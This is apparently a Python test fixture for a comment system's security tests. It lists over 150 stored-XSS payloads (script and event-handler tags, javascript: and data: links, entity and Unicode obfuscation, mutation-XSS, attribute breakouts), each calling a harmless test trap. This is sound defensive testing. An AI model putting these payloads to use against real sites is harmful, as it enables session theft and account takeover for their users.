"""
Stored-XSS payloads, posted wherever a reader's text is kept and shown again.

Every payload calls the trap the browser test installs, `__pwned(n)` (or
`alert(n)`, overridden the same way), with a number that says which field
carried it and which payload it was: ``n = field * 1000 + index``. So a report
reads "body payload 12 (svg-onload) ran on /moderate/", not just "something ran".

Templates hold ``{t}`` for the trap call and ``{n}`` for its number alone (for
payloads that must spell the call their own way, e.g. entity-encoded).
"""

from dataclasses import dataclass

# Which field carried a payload: the thousands of its trap number.
FIELDS = {
    1: "body",
    2: "name",
    3: "website",
    4: "email",
    5: "thread title",
    6: "thread key",
    7: "thread url",
    8: "report note",
    9: "moderator reason",
    10: "account name",
    11: "inline-feedback quote",
}
BODY, NAME, WEBSITE, EMAIL, TITLE, KEY, URL, NOTE, REASON, ACCOUNT = range(1, 11)
# Inline feedback: readers quote a passage of an article. The articles' bodies
# hold the QUOTE payloads as passages and each payload comment quotes one
# (tests/security/stored.py); the article pages, their Inline Feedbacks view
# and the widget elsewhere show them (tests/security/test_stored_xss.py).
QUOTE = 11


@dataclass(frozen=True)
class Payload:
    slug: str
    family: str
    template: str

    def render(self, number: int) -> str:
        """Return the payload calling the trap with this number."""
        return self.template.replace("{t}", f"__pwned({number})").replace(
            "{n}", str(number)
        )


# Families that are special only to the Markdown renderer: as plain text (a
# thread's title or key) they are the same as any other text, so those fields
# skip them.
MARKDOWN_FAMILIES = {"md-link", "md-image", "md-reference", "autolink", "markdown"}


def plain_text_payloads() -> list[tuple[int, "Payload"]]:
    """Return (index, payload) for the payloads that matter outside Markdown."""
    return [
        (index, payload)
        for index, payload in enumerate(PAYLOADS)
        if payload.family not in MARKDOWN_FAMILIES
    ]


def trap_number(field: int, index: int) -> int:
    return field * 1000 + index


def describe(number: int) -> str:
    """Say which field and payload a trap number stands for."""
    field, index = divmod(number, 1000)
    where = FIELDS.get(field, f"field {field}")
    corpus = WEBSITES if field == WEBSITE else EMAILS if field == EMAIL else PAYLOADS
    if field == URL:
        corpus = THREAD_URLS
    slug = corpus[index].slug if 0 <= index < len(corpus) else "?"
    return f"{where} payload {index} ({slug})"


_P = Payload

PAYLOADS: list[Payload] = [
    # Script elements.
    _P("script", "script", "<script>{t}</script>"),
    _P("script-src", "script", "<SCRIPT SRC=//pwned.invalid/{n}.js></SCRIPT>"),
    _P("script-slash", "script", "<script/x>{t}</script>"),
    _P("script-close-open", "script", "</script><script>{t}</script>"),
    _P("script-nested", "script", "<<script>{t};//<</script>"),
    _P("script-upper", "script", "<ScRiPt>{t}</sCrIpT>"),
    # Event handlers.
    _P("img-onerror", "handler", "<img src=x onerror={t}>"),
    _P("img-onerror-quoted", "handler", '<img src="x" onerror="{t}">'),
    _P("svg-onload", "handler", "<svg onload={t}>"),
    _P("svg-slash-onload", "handler", "<svg/onload={t}>"),
    _P("body-onload", "handler", "<body onload={t}>"),
    _P("input-autofocus", "handler", "<input autofocus onfocus={t}>"),
    _P("select-autofocus", "handler", "<select autofocus onfocus={t}></select>"),
    _P(
        "div-onmouseover",
        "handler",
        '<div onmouseover="{t}" style="position:fixed;inset:0">hover</div>',
    ),
    _P("a-onmouseover", "handler", "<a onmouseover={t}>hover me</a>"),
    _P(
        "details-ontoggle", "handler", "<details open ontoggle={t}><summary>x</summary>"
    ),
    _P("video-source-onerror", "handler", "<video><source onerror={t}></video>"),
    _P("button-onclick", "handler", "<button onclick={t}>click</button>"),
    _P("custom-onclick", "handler", "<x-y onclick={t}>click me</x-y>"),
    _P("marquee-onstart", "handler", "<marquee onstart={t}>x</marquee>"),
    _P(
        "iframe-srcdoc",
        "handler",
        '<iframe srcdoc="<script>top.__pwned({n})</script>"></iframe>',
    ),
    _P("img-entity-handler", "handler", "<img src=x onerror=&#95;&#95;pwned({n})>"),
    _P("img-alert", "handler", "<img src=x onerror=alert({n})>"),
    _P("img-backtick", "handler", "<img src=x onerror=__pwned`{n}`>"),
    # Markdown links with dangerous schemes.
    _P("md-js", "md-link", "[click](javascript:{t})"),
    _P("md-js-case", "md-link", "[click](JaVaScRiPt:{t})"),
    _P("md-js-entity-j", "md-link", "[click](&#106;avascript:{t})"),
    _P(
        "md-js-entity-hex",
        "md-link",
        "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{t})",
    ),
    _P("md-js-entity-tab", "md-link", "[click](jav&#x09;ascript:{t})"),
    _P("md-js-entity-newline", "md-link", "[click](jav&#x0A;ascript:{t})"),
    _P("md-js-colon-entity", "md-link", "[click](javascript&#58;{t})"),
    _P("md-js-colon-named", "md-link", "[click](javascript&colon;{t})"),
    _P("md-js-angle-tab", "md-link", "[click](<java\tscript:{t}>)"),
    _P("md-js-leading-space", "md-link", "[click](  javascript:{t})"),
    _P("md-js-control", "md-link", "[click](\x01javascript:{t})"),
    _P("md-js-soft-hyphen", "md-link", "[click](java\u00adscript:{t})"),
    _P("md-js-zwsp", "md-link", "[click](javascript\u200b:{t})"),
    _P(
        "md-js-fullwidth",
        "md-link",
        "[click](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54\uff1a{t})",
    ),
    _P("md-js-comment", "md-link", "[click](javascript://%0a{t})"),
    _P("md-js-title", "md-link", '[click](javascript:{t} "title")'),
    _P(
        "md-data-html",
        "md-link",
        "[click](data:text/html,%3Cscript%3Etop.__pwned({n})%3C/script%3E)",
    ),
    _P(
        "md-data-base64",
        "md-link",
        "[click](data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZCgxKTwvc2NyaXB0Pg==)",
    ),
    _P("md-vbscript", "md-link", "[click](vbscript:msgbox({n}))"),
    _P(
        "md-title-break",
        "md-link",
        '[x](https://example.org/ "t\\" onmouseover=\\"{t}")',
    ),
    _P("md-href-quote", "md-link", '[x](https://example.org/"onmouseover="{t}")'),
    _P("md-href-html", "md-link", "[x](https://example.org/?a=<img/src/onerror={t}>)"),
    _P("md-text-html", "md-link", "[<img src=x onerror={t}>](https://example.org/)"),
    # Markdown images.
    _P("md-img-js", "md-image", "![x](javascript:{t})"),
    _P("md-img-onerror", "md-image", '![x](x" onerror="{t})'),
    _P("md-img-svg-data", "md-image", "![x](data:image/svg+xml,<svg/onload={t}>)"),
    _P("md-img-remote", "md-image", "![x](https://pwned.invalid/{n}.png)"),
    _P("md-img-alt-break", "md-image", '![x" onerror="{t}](x)'),
    # Reference-style links and images.
    _P("md-ref-js", "md-reference", "[click][r{n}]\n\n[r{n}]: javascript:{t}"),
    _P("md-ref-entity", "md-reference", "[c{n}][]\n\n[c{n}]: &#106;avascript:{t}"),
    _P("md-ref-image", "md-reference", "![img][i{n}]\n\n[i{n}]: javascript:{t}"),
    _P(
        "md-ref-title",
        "md-reference",
        '[t{n}]\n\n[t{n}]: https://example.org/ "x" onmouseover="{t}"',
    ),
    # Autolinks.
    _P("autolink-js", "autolink", "<javascript:{t}>"),
    _P("autolink-js-upper", "autolink", "<JAVASCRIPT:{t}>"),
    _P("autolink-quote", "autolink", '<https://pwned.invalid/"onmouseover="{t}>'),
    _P(
        "bare-url-html",
        "autolink",
        'https://pwned.invalid/?q="><img src=x onerror={t}>',
    ),
    _P("autolink-email", "autolink", '<a"onmouseover="{t}@example.org>'),
    # Raw HTML that should never become markup.
    _P("a-href-js", "raw-html", '<a href="javascript:{t}">raw link</a>'),
    _P("iframe-js", "raw-html", '<iframe src="javascript:top.__pwned({n})"></iframe>'),
    _P("object-js", "raw-html", '<object data="javascript:{t}"></object>'),
    _P(
        "embed-data",
        "raw-html",
        '<embed src="data:text/html,<script>top.__pwned({n})</script>">',
    ),
    _P(
        "form-action-js",
        "raw-html",
        '<form action="javascript:{t}"><button>go</button>',
    ),
    _P(
        "button-formaction",
        "raw-html",
        '<button formaction="javascript:{t}">go</button>',
    ),
    _P("base-href", "raw-html", '<base href="javascript:{t}//">'),
    _P(
        "meta-refresh",
        "raw-html",
        '<meta http-equiv="refresh" content="0;url=javascript:{t}">',
    ),
    _P("link-css", "raw-html", "<link rel=stylesheet href=//pwned.invalid/{n}.css>"),
    _P("a-entity-href", "raw-html", '<a href="&#x6A;avascript:{t}">entity link</a>'),
    # SVG and MathML.
    _P("svg-script", "svg-math", "<svg><script>{t}</script></svg>"),
    _P(
        "svg-xlink",
        "svg-math",
        '<svg><a xlink:href="javascript:{t}"><text x="20" y="20">svg link</text>'
        "</a></svg>",
    ),
    _P("svg-animate", "svg-math", "<svg><animate onbegin={t} attributeName=x dur=1s>"),
    _P(
        "svg-set-href",
        "svg-math",
        '<svg><a><set attributeName=href to="javascript:{t}"/><text y=20>go</text></a>',
    ),
    _P(
        "svg-foreignobject",
        "svg-math",
        "<svg><foreignObject><img src=x onerror={t}></foreignObject></svg>",
    ),
    _P(
        "math-mglyph-style",
        "svg-math",
        "<math><mtext><table><mglyph><style><img src=x onerror={t}>",
    ),
    _P("math-href", "svg-math", '<math href="javascript:{t}">math link</math>'),
    # Mutation XSS: markup that parses differently the second time.
    _P(
        "mxss-noscript",
        "mxss",
        '<noscript><p title="</noscript><img src=x onerror={t}>">',
    ),
    _P("mxss-style", "mxss", "<style></style><img src=x onerror={t}>"),
    _P("mxss-title", "mxss", '<title><a title="</title><img src=x onerror={t}>">'),
    _P("mxss-textarea", "mxss", "<textarea></textarea><img src=x onerror={t}>"),
    _P(
        "mxss-form-math",
        "mxss",
        '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="'
        '</style><img src=x onerror={t}>">',
    ),
    _P(
        "mxss-svg-p", "mxss", '<svg></p><style><a id="</style><img src=1 onerror={t}>">'
    ),
    _P(
        "mxss-math-h1",
        "mxss",
        '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="'
        '</style><img src onerror={t}>"></style></h1>',
    ),
    _P("mxss-xmp", "mxss", '<xmp><p title="</xmp><img src=x onerror={t}>">'),
    _P("mxss-comment", "mxss", '<!--<img src="--><img src=x onerror={t}//">'),
    _P("mxss-cdata", "mxss", "<![CDATA[><img src=x onerror={t}>]]>"),
    _P("mxss-template", "mxss", "<template><img src=x onerror={t}></template>"),
    # Breaking out of attributes, scripts, template literals and other contexts.
    _P("attr-double", "breakout", '"><img src=x onerror={t}>'),
    _P("attr-single", "breakout", "'><img src=x onerror={t}>"),
    _P("attr-autofocus", "breakout", '" autofocus onfocus="{t}" x="'),
    _P("attr-autofocus-single", "breakout", "' autofocus onfocus='{t}' x='"),
    _P("js-string-single", "breakout", "'-{t}-'"),
    _P("js-string-double", "breakout", '";{t};//'),
    _P("template-literal", "breakout", "${{t}}"),
    _P("template-backtick", "breakout", "`;{t};`"),
    _P("angular-template", "breakout", "{{constructor.constructor('{t}')()}}"),
    _P("close-title", "breakout", "</title><img src=x onerror={t}>"),
    _P("close-textarea", "breakout", "</textarea><img src=x onerror={t}>"),
    _P("close-style", "breakout", "</style><img src=x onerror={t}>"),
    _P("close-comment", "breakout", "--><img src=x onerror={t}>"),
    _P("line-separator", "breakout", "\u2028{t}//\u2029"),
    _P("json-close", "breakout", '"}]</script><script>{t}</script>'),
    # CSS.
    _P("css-js-url", "css", '<div style="background:url(javascript:{t})">css</div>'),
    _P(
        "css-remote",
        "css",
        '<div style="background-image:url(https://pwned.invalid/{n}.png);'
        'width:50px;height:50px">css</div>',
    ),
    _P("css-import", "css", "<style>@import 'https://pwned.invalid/{n}.css';</style>"),
    _P("css-expression", "css", '<div style="width:expression({t})">css</div>'),
    _P(
        "css-animation",
        "css",
        "<style>@keyframes k{from{opacity:1}}</style>"
        '<p style="animation:k 1s" onanimationstart={t}>x</p>',
    ),
    # Markdown constructs that carry text into attributes or code.
    _P("fence-info", "markdown", '```"><img src=x onerror={t}>\n{t}\n```'),
    _P("code-span", "markdown", "`<script>{t}</script>`"),
    _P("emphasis-html", "markdown", "*<img src=x onerror={t}>*"),
    _P("blockquote-html", "markdown", "> <img src=x onerror={t}>"),
    _P("list-html", "markdown", "1. <img src=x onerror={t}>\n2. two"),
    # Unicode and encoding tricks.
    _P("fullwidth-tags", "unicode", "\uff1cimg src=x onerror={t}\uff1e"),
    _P("fullwidth-script", "unicode", "\uff1cscript\uff1e{t}\uff1c/script\uff1e"),
    _P("js-unicode-escape", "unicode", "\\u003cimg src=x onerror={t}\\u003e"),
    _P("double-entity", "unicode", "&lt;img src=x onerror={t}&gt;"),
    _P("url-encoded", "unicode", "%3Cimg%20src%3Dx%20onerror%3D{t}%3E"),
    _P("rtl-override", "unicode", "\u202e<img src=x onerror={t}>"),
    _P("nul-byte", "unicode", "<img src=x onerror={t}\x00>"),
]

# Websites pass Django's URLValidator (http/https, no whitespace), so their
# attack is breaking out of the href attribute or abusing the scheme.
WEBSITES: list[Payload] = [
    _P("site-js", "website", "javascript:{t}"),
    _P("site-js-slashes", "website", "javascript://pwned.invalid/%0a{t}"),
    _P("site-data", "website", "data:text/html,<script>top.__pwned({n})</script>"),
    _P("site-quote-handler", "website", 'https://pwned.invalid/"onmouseover="{t}'),
    _P("site-single-handler", "website", "https://pwned.invalid/'onmouseover='{t}"),
    _P("site-close-tag", "website", 'https://pwned.invalid/"><img/src=x/onerror={t}>'),
    _P("site-svg-query", "website", "https://pwned.invalid/?a=</a><svg/onload={t}>"),
    _P("site-autofocus", "website", 'https://pwned.invalid/#"autofocus/onfocus="{t}'),
    _P("site-userinfo", "website", "https://javascript:{t}@pwned.invalid/"),
    _P(
        "site-close-script",
        "website",
        "https://pwned.invalid/</script><script>{t}</script>",
    ),
]

# E-mail addresses: a quoted local part may hold almost anything printable.
EMAILS: list[Payload] = [
    _P("email-svg", "email", '"<svg/onload={t}>"@example.org'),
    _P("email-img", "email", '"<img/src=x/onerror={t}>"@example.org'),
    _P("email-attr", "email", '""onmouseover="{t}"@example.org'),
    _P("email-script", "email", '"</script><script>{t}</script>"@example.org'),
]

# The path of a thread's URL (the origin must be an embed origin to be stored).
THREAD_URLS: list[Payload] = [
    _P("url-attr", "thread-url", '/p?"><svg/onload={t}>'),
    _P("url-single", "thread-url", "/p#'onmouseover='{t}'"),
    _P("url-script", "thread-url", "/</script><script>{t}</script>"),
    _P("url-textarea", "thread-url", "/</textarea><img/src=x/onerror={t}>"),
    _P("url-js-in-path", "thread-url", "/javascript:{t}"),
]
